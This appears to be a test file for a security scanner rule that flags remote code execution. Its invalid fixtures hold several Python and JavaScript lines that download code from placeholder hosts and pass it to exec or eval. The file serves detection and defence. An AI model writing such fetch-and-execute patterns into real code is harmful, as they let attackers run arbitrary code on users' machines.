import { remoteCodeEval } from '../../../src/scan/rules/remote-code-eval.ts';
import { testRule } from '../rule-tester.ts';
import { js, py } from './common/skills.ts';

testRule(remoteCodeEval, {
  valid: [
    { name: 'fetches json and parses it', files: py("import requests\ndata = requests.get('https://api.example.com/x').json()") },
    { name: 'node fetch and JSON.parse', files: js("const r = await fetch('https://api.example.com/x');\nconst d = JSON.parse(await r.text());") },
    { name: 'evaluates a literal', files: py("x = eval('1 + 2')") },
  ],
  invalid: [
    { name: 'exec of requests text', files: py("import requests\nexec(requests.get('https://cfg.example/p.py').text)"), errors: [{ messageId: 'evalRemote', severity: 'critical' }] },
    { name: 'exec of urlopen from a raw IP', files: py("import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.8/p').read())"), errors: [{ messageId: 'evalRemote', severity: 'critical' }] },
    { name: 'node eval of fetched text', files: js("fetch('https://cfg.example/p.js').then(r => r.text()).then(eval);"), errors: [{ messageId: 'evalRemote' }] },
  ],
});
